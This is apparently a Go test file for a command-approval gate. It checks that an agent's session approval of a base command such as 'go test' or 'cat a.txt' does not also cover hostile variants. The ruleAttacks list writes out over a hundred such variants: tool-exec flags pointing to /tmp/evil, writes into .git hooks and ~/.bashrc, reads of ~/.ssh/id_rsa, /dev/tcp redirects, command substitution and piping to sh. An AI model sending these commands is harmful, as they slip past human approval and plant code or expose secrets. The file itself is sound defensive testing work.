package approval

import (
	"os"
	"path/filepath"
	"testing"

	"gatehouse/internal/workspace"
)

// attack is a command the model sends after the user approved base for
// the session (in the workspace root with exec, unless cwd or action say
// otherwise for the attack).
type attack struct {
	base, cmd   string
	cwd, action string
}

// ruleAttacks are issue 12's rule attacks: none may ride on the rule made
// from its base. Items 1 to 4 of the issue are marked.
var ruleAttacks = []attack{
	// 1. Extra arguments that run code or write files.
	{base: "go test ./...", cmd: "go test ./... -exec 'sh -c \"touch /tmp/p\"'"},
	{base: "go test ./...", cmd: "go test ./... -toolexec=/tmp/evil"},
	{base: "go test ./...", cmd: "go test -exec /tmp/evil ./..."},
	{base: "go test ./...", cmd: "go test ./... -coverprofile=src/main.go"},
	{base: "go test ./...", cmd: "go test ./... -o .git/hooks/pre-commit"},
	{base: "go test ./...", cmd: "go test ./... -run X"},
	{base: "go test ./...", cmd: "go test ./... -vettool=/tmp/evil"},
	{base: "go test ./...", cmd: "GOFLAGS=-toolexec=/tmp/evil go test ./..."},
	{base: "go test ./...", cmd: "go test ./... ./..."},
	{base: "make test", cmd: "make test SHELL='sh -c \"touch p\"'"},
	{base: "make test", cmd: "make --eval='$(shell touch p)' test"},
	{base: "make test", cmd: "make test --eval=x"},
	{base: "make test", cmd: "make -f /tmp/evil.mk test"},
	{base: "make test", cmd: "make test -f evil.mk"},
	{base: "make test", cmd: "make -C /tmp test"},
	{base: "make test", cmd: "MAKEFLAGS=--eval=x make test"},
	{base: "make test", cmd: "make test -j"},
	{base: "npm test", cmd: "npm test --script-shell='sh -c \"touch p\"'"},
	{base: "npm test", cmd: "npm test -- --watch"},
	{base: "npm test", cmd: "npm test --prefix=/tmp"},
	{base: "npm test", cmd: "npm_config_script_shell=/tmp/evil npm test"},
	{base: "npm test", cmd: "npm test --userconfig=evil.rc"},
	{base: "git status", cmd: "git -c core.fsmonitor='touch p' status"},
	{base: "git status", cmd: "git -C /tmp status"},
	{base: "git status", cmd: "git --exec-path=/tmp status"},
	{base: "git status", cmd: "git --git-dir=/tmp/x status"},
	{base: "git status", cmd: "GIT_DIR=/tmp/x git status"},
	{base: "git status", cmd: "git status --porcelain"},
	{base: "git log", cmd: "git log --output=src/main.go"},
	{base: "git log", cmd: "git log --output=.git/config"},
	{base: "git log", cmd: "git log -p --ext-diff"},
	{base: "git diff", cmd: "GIT_EXTERNAL_DIFF=/tmp/evil git diff"},
	{base: "git diff", cmd: "git diff --ext-diff"},
	{base: "sort a.txt", cmd: "sort a.txt -o src/main.go"},
	{base: "sort a.txt", cmd: "sort -o .git/config a.txt"},
	{base: "sort a.txt", cmd: "sort a.txt --output=x"},
	{base: "sort a.txt", cmd: "sort --compress-program=/tmp/evil a.txt"},
	{base: "sort a.txt", cmd: "sort a.txt b.txt"},
	{base: "tar -xf a.tar", cmd: "tar -xf a.tar --to-command='sh -c \"touch p\"'"},
	{base: "tar -xf a.tar", cmd: "tar -xf a.tar --use-compress-program=/tmp/evil"},
	{base: "tar -xf a.tar", cmd: "tar -xf a.tar -I /tmp/evil"},
	{base: "tar -xf a.tar", cmd: "tar -xf a.tar --checkpoint-action=exec=/tmp/evil"},
	{base: "tar -xf a.tar", cmd: "tar -xf a.tar -C /tmp"},
	{base: "test -f x", cmd: "test -v 'a[$(touch p)]'"},
	{base: "test -f x", cmd: "test -f x -a -v 'a[$(touch p)]'"},
	{base: "find . -name x", cmd: "find . -name x -exec rm {} ;"},
	{base: "find . -name x", cmd: "find . -name x -fprint out"},
	{base: "find . -name x", cmd: "find . -name x -delete"},
	{base: "tee a.txt", cmd: "tee a.txt ~/.bashrc"},
	{base: "tee a.txt", cmd: "tee a.txt b.txt"},
	{base: "tee a.txt", cmd: "tee a.txt .git/config"},
	{base: "tee a.txt", cmd: "tee -a a.txt"},
	{base: "cargo test", cmd: "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"/tmp/evil\"'"},
	{base: "pytest -q", cmd: "pytest -q -p evil_plugin"},
	{base: "less a.txt", cmd: "LESSOPEN='|/tmp/evil %s' less a.txt"},
	{base: "vim a.txt", cmd: "vim -c '!touch p' a.txt"},
	{base: "ls", cmd: "ls -la"},
	{base: "ls", cmd: "ls --color=always src"},
	{base: "ls", cmd: "lsof"},
	// 2. Redirections into the workspace, and every other redirection of a file.
	{base: "ls", cmd: "ls > src/main.go"},
	{base: "echo hi", cmd: "echo hi > a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt >> src/main.go"},
	{base: "cat a.txt", cmd: "cat a.txt >| src/main.go"},
	{base: "cat a.txt", cmd: "cat a.txt <> src/main.go"},
	{base: "cat a.txt", cmd: "cat a.txt &> out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt &>> out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt >& out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt > .git/config"},
	{base: "cat a.txt", cmd: "cat a.txt 2> err.txt"},
	{base: "cat a.txt", cmd: "cat a.txt 1>out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt 2>&1 >out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt > /dev/null/../../tmp/x"},
	{base: "cat a.txt", cmd: "cat a.txt > /dev/nul"},
	{base: "cat a.txt", cmd: "cat a.txt > \"$OUT\""},
	{base: "cat a.txt", cmd: "cat a.txt > $(echo x)"},
	{base: "cat a.txt", cmd: "cat a.txt <<< \"$(touch p)\""},
	{base: "cat a.txt", cmd: "cat a.txt <<< hi"},
	{base: "cat a.txt", cmd: "cat a.txt <<EOF\nx\nEOF"},
	{base: "cat a.txt", cmd: "cat a.txt < <(touch p)"},
	{base: "cat a.txt", cmd: "cat a.txt >(touch p)"},
	{base: "cat a.txt", cmd: "cat a.txt {fd}>/dev/null"},
	{base: "cat a.txt", cmd: "cat a.txt 2>&-"},
	{base: "cat a.txt", cmd: "cat a.txt > *.go"},
	{base: "cat a.txt", cmd: "cat a.txt < /etc/passwd"},
	{base: "cat a.txt", cmd: "cat a.txt > /dev/tcp/127.0.0.1/80"},
	// 3. Expansions read as literal text.
	{base: "ls", cmd: "ls >> {~/.bashrc,}"},
	{base: "ls", cmd: "ls > {a,b}.txt"},
	{base: "cat a.txt", cmd: "cat {a,b}.txt"},
	{base: "cat a.txt", cmd: "cat a.txt{,}"},
	{base: "cat a.txt", cmd: "cat {a..c}.txt"},
	{base: "cat a.txt", cmd: "cat a.?xt"},
	{base: "cat a.txt", cmd: "cat [a].txt"},
	{base: "cat a.txt", cmd: "cat a.tx[t]"},
	{base: "test -f a.txt", cmd: "test -f a.txt > out.txt"},
	{base: "cat a.txt", cmd: "cat *"},
	{base: "cat a.txt", cmd: "cat ~/.ssh/id_rsa"},
	{base: "cat a.txt", cmd: "cat a.txt ~"},
	{base: "cat a.txt", cmd: "cat a.txt $X"},
	{base: "cat a.txt", cmd: "cat a.txt ${X:-y}"},
	{base: "cat a.txt", cmd: "cat a.txt $((1+1))"},
	{base: "cat a.txt", cmd: "cat a.txt $(touch p)"},
	{base: "cat a.txt", cmd: "cat a.txt `touch p`"},
	{base: "cat a.txt", cmd: "cat a.txt <(touch p)"},
	{base: "cat a.txt", cmd: "$'cat' a.txt"},
	{base: "cat a.txt", cmd: "cat$IFS a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt +(x)"},
	{base: "touch a.txt", cmd: "touch .*/x"},
	// NAME=value words, wrappers, chains and compound commands.
	{base: "cat a.txt", cmd: "X=1 cat a.txt"},
	{base: "cat a.txt", cmd: "PATH=/tmp cat a.txt"},
	{base: "cat a.txt", cmd: "LD_PRELOAD=/tmp/x.so cat a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt X=1"},
	{base: "cat a.txt", cmd: "env cat a.txt"},
	{base: "cat a.txt", cmd: "command cat a.txt"},
	{base: "cat a.txt", cmd: "builtin cat a.txt"},
	{base: "cat a.txt", cmd: "exec cat a.txt"},
	{base: "cat a.txt", cmd: "nice cat a.txt"},
	{base: "cat a.txt", cmd: "timeout 5 cat a.txt"},
	{base: "cat a.txt", cmd: "xargs cat a.txt"},
	{base: "cat a.txt", cmd: "sudo cat a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt | tee out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt |& tee out.txt"},
	{base: "cat a.txt", cmd: "cat a.txt | sh"},
	{base: "cat a.txt", cmd: "cat a.txt && rm x"},
	{base: "cat a.txt", cmd: "cat a.txt || rm x"},
	{base: "cat a.txt", cmd: "cat a.txt; rm x"},
	{base: "cat a.txt", cmd: "cat a.txt & rm x"},
	{base: "cat a.txt", cmd: "cat a.txt\nrm x"},
	{base: "cat a.txt", cmd: "(cat a.txt)"},
	{base: "cat a.txt", cmd: "{ cat a.txt; }"},
	{base: "cat a.txt", cmd: "! cat a.txt"},
	{base: "cat a.txt", cmd: "time cat a.txt"},
	{base: "cat a.txt", cmd: "coproc cat a.txt"},
	{base: "cat a.txt", cmd: "f() { rm x; }; f"},
	{base: "cat a.txt", cmd: "function cat { rm x; }; cat a.txt"},
	{base: "cat a.txt", cmd: "if cat a.txt; then rm x; fi"},
	{base: "cat a.txt", cmd: "for i in 1; do cat a.txt; done"},
	{base: "cat a.txt", cmd: "while cat a.txt; do break; done"},
	{base: "cat a.txt", cmd: "case x in x) cat a.txt;; esac"},
	{base: "cat a.txt", cmd: "[[ -f a.txt ]] && cat a.txt"},
	{base: "cat a.txt", cmd: "(( x )) && cat a.txt"},
	{base: "cat a.txt", cmd: "let x=1; cat a.txt"},
	{base: "cat a.txt", cmd: "alias cat=rm; cat a.txt"},
	{base: "cat a.txt", cmd: "cd / && cat a.txt"},
	{base: "cat a.txt", cmd: "cat a.txt #\nrm x"},
	{base: "cat a.txt", cmd: "bash -c 'cat a.txt'"},
	{base: "cat a.txt", cmd: "cat a.txt 2>&1 | sh"},
	// Other tools that run commands or write files.
	{base: "ls", cmd: "rsync -e 'sh -c \"touch p\"' a b:c"},
	{base: "ls", cmd: "sed -n 'w .git/config' a.txt"},
	{base: "ls", cmd: "sed -i s/a/b/ .git/config"},
	{base: "ls", cmd: "sed '1e touch p' a.txt"},
	{base: "ls", cmd: "awk 'BEGIN{system(\"touch p\")}'"},
	{base: "ls", cmd: "ls | xargs -I{} sh -c 'touch {}'"},
	{base: "ls", cmd: "curl -o src/main.go https://example.invalid/x"},
	{base: "ls", cmd: "wget -O src/main.go https://example.invalid/x"},
	{base: "ls", cmd: "ssh -o ProxyCommand='touch p' host"},
	{base: "ls", cmd: "cp a.txt .git/hooks/pre-commit"},
	{base: "ls", cmd: "mv a.txt .git/commondir"},
	{base: "ls", cmd: "ln -s ../evil .git"},
	{base: "ls", cmd: "touch src/.git"},
	{base: "ls", cmd: "dd if=a.txt of=.git/config"},
	{base: "ls", cmd: "install a.txt .git/hooks/post-checkout"},
	{base: "cp -r vendor/lib .", cmd: "cp -r vendor/.git ."},
	{base: "ls", cmd: "npx evil"},
	{base: "ls", cmd: "python3 -c 'import os'"},
	// 4. Scope: another folder, another action.
	{base: "make", cwd: "", cmd: "make", action: "start"},
	{base: "npm test", cmd: "npm test", cwd: "sub"},
	{base: "ls", cmd: "ls", cwd: "src"},
}

// legitRepeats ride on the rule made from their base.
var legitRepeats = []attack{
	{base: "ls", cmd: "ls"},
	{base: "ls", cmd: "ls 2>&1"},
	{base: "ls", cmd: "ls >/dev/null"},
	{base: "ls", cmd: "ls 2>/dev/null"},
	{base: "ls", cmd: "ls &>/dev/null"},
	{base: "ls", cmd: "ls &>>/dev/null"},
	{base: "ls", cmd: "ls </dev/null"},
	{base: "ls", cmd: "ls >&2"},
	{base: "ls", cmd: "ls 1>&2"},
	{base: "ls", cmd: "ls >>/dev/null"},
	{base: "ls", cmd: "  ls  "},
	{base: "ls", cmd: "'ls'"},
	{base: "ls", cmd: "ls # list"},
	{base: "go test ./...", cmd: "go test ./... 2>&1"},
	{base: "go test ./...", cmd: "go  test  ./..."},
	{base: "go test ./...", cmd: "go test \"./...\""},
	{base: "go test ./...", cmd: "go test ./... &>/dev/null"},
	{base: "npm test", cmd: "npm test"},
	{base: "npm test", cmd: "npm test 2>&1"},
	{base: "npm test", cmd: "npm test </dev/null"},
	{base: "npm test", cmd: "npm test", cwd: "sub"}, // approved in sub/ and repeated there
	{base: "make test", cmd: "make test 2>/dev/null"},
	{base: "make test", cmd: "make test >/dev/null 2>&1"},
	{base: "git status", cmd: "git status"},
	{base: "git status", cmd: "git status 2>&1"},
	{base: "git log --oneline -5", cmd: "git log --oneline -5"},
	{base: "git show HEAD~1", cmd: "git show HEAD~1"},
	{base: "git diff -- src/main.go", cmd: "git diff -- src/main.go"},
	{base: "git commit -m 'fix x'", cmd: "git commit -m \"fix x\""},
	{base: "sort a.txt", cmd: "sort a.txt >/dev/null"},
	{base: "echo 'a b'", cmd: "echo \"a b\""},
	{base: "cat a.txt", cmd: "cat a\\.txt"},
	{base: "go build ./... && go test ./...", cmd: "go build ./... && go test ./..."},
	{base: "go build ./... && go test ./...", cmd: "go test ./...; go build ./..."},
	{base: "go vet ./... | grep x", cmd: "go vet ./... 2>&1 | grep x"},
	{base: "ls src 2>&1 | head -5", cmd: "ls src | head -5"},
	{base: "npm run build", cmd: "npm run build >/dev/null"},
	{base: "cargo test", cmd: "cargo test 2>&1"},
	{base: "pytest -q", cmd: "pytest -q 2>&1"},
	{base: "cat .git/HEAD", cmd: "cat .git/HEAD"},
	{base: "make", cmd: "make", action: "start"},
	{base: "test a.txt = [", cmd: "test a.txt = [ 2>/dev/null"},
}

func attackWorkspace(t *testing.T) *workspace.Workspace {
	ws := testWorkspace(t)
	for _, d := range []string{"sub", "src"} {
		os.MkdirAll(filepath.Join(ws.Root(), d), 0o755)
	}
	os.WriteFile(filepath.Join(ws.Root(), "a.txt"), []byte("a\n"), 0o644)
	os.WriteFile(filepath.Join(ws.Root(), ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	return ws
}

// approveForSession does what "approve for this session" on base does: the
// line must be offered a rule, which is added.
func approveForSession(t *testing.T, ws *workspace.Workspace, rules *Rules, base, cwd, action string) {
	t.Helper()
	line := analyzeShell(base, cwd, ws)
	var k keys
	if line.plain {
		k = keys{kind: keyCommands, calls: line.calls, action: action, cwd: cwd}
	}
	r := proposal("bash", k)
	if r == nil {
		t.Fatalf("%q was not offered a rule (segments %+v)", base, line.segments)
	}
	rules.Add(*r)
}

func (c attack) scope(ws *workspace.Workspace) (cwd, action string) {
	cwd, action = ws.Root(), "exec"
	if c.cwd != "" {
		cwd = filepath.Join(ws.Root(), c.cwd)
	}
	if c.action != "" {
		action = c.action
	}
	return cwd, action
}

func TestRuleAttacksDoNotRide(t *testing.T) {
	if len(ruleAttacks) < 100 {
		t.Fatalf("%d attacks, want at least 100", len(ruleAttacks))
	}
	ws := attackWorkspace(t)
	for _, c := range ruleAttacks {
		rules := NewRules(nil)
		approveForSession(t, ws, rules, c.base, ws.Root(), "exec")
		cwd, action := c.scope(ws)
		if covers(ws, rules, c.cmd, cwd, action) {
			t.Errorf("%q (%s in %s) rode on the rule for %q", c.cmd, action, cwd, c.base)
		}
	}
}

func TestLegitimateRepeatsRide(t *testing.T) {
	if len(legitRepeats) < 30 {
		t.Fatalf("%d repeats, want at least 30", len(legitRepeats))
	}
	ws := attackWorkspace(t)
	for _, c := range legitRepeats {
		rules := NewRules(nil)
		cwd, action := c.scope(ws)
		approveForSession(t, ws, rules, c.base, cwd, action)
		if !covers(ws, rules, c.cmd, cwd, action) {
			t.Errorf("%q did not ride on the rule for %q", c.cmd, c.base)
		}
		// The repeat is offered a rule of its own too.
		approveForSession(t, ws, NewRules(nil), c.cmd, cwd, action)
	}
}

// TestFileRulesCoverTheSameFiles: a file tool's rule covers later calls on
// the same files (or some of them), never one more file or another tool.
func TestFileRulesCoverTheSameFiles(t *testing.T) {
	rs := NewRules(nil)
	rs.Add(*proposal("apply_patch", keys{kind: keyFiles, items: []string{"a.go", "b.go"}}))
	for _, c := range []struct {
		tool  string
		files []string
		want  bool
	}{
		{"apply_patch", []string{"a.go", "b.go"}, true},
		{"apply_patch", []string{"b.go", "a.go"}, true},
		{"apply_patch", []string{"a.go"}, true},
		{"apply_patch", []string{"a.go", "c.go"}, false},
		{"apply_patch", []string{".git/config"}, false},
		{"write_file", []string{"a.go"}, false},
	} {
		if got := rs.covering(c.tool, keys{kind: keyFiles, items: c.files}) != nil; got != c.want {
			t.Errorf("%s %v: covered %v, want %v", c.tool, c.files, got, c.want)
		}
	}
}
